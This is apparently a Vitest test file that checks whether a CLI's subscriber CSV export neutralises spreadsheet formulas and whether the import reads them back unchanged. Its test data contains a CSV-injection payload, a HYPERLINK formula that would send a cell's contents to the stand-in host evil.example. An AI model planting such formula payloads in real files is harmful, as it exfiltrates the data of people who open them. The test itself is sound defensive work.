import { describe, expect, it } from "vitest";
import { project } from "../helpers/project.js";

describe("the CSV export", () => {
  it("neutralises spreadsheet formulas in the CSV export, and the import reads them back as typed", async () => {
    const p = project();
    await p.cli(["subscribers", "add", "ada@example.org", "--confirmed", "--topics", '=HYPERLINK("http://evil.example/?"&A1), +speech, @vision']);
    const csv = (await p.cli(["subscribers", "export"])).stdout;
    const row = csv.split("\n")[1]!;
    expect(row).toContain(`"'=hyperlink(""http://evil.example/?""&a1), +speech, @vision"`);
    for (const cell of row.split(",")) expect(cell).not.toMatch(/^[=+\-@]/);
    const q = project();
    await q.cli(["subscribers", "import", "-", "--confirmed"], csv);
    const topics = JSON.parse((q.db().prepare("SELECT topics FROM subscribers").get() as { topics: string }).topics);
    expect(topics).toEqual(['=hyperlink("http://evil.example/?"&a1)', "+speech", "@vision"]);
  });
});
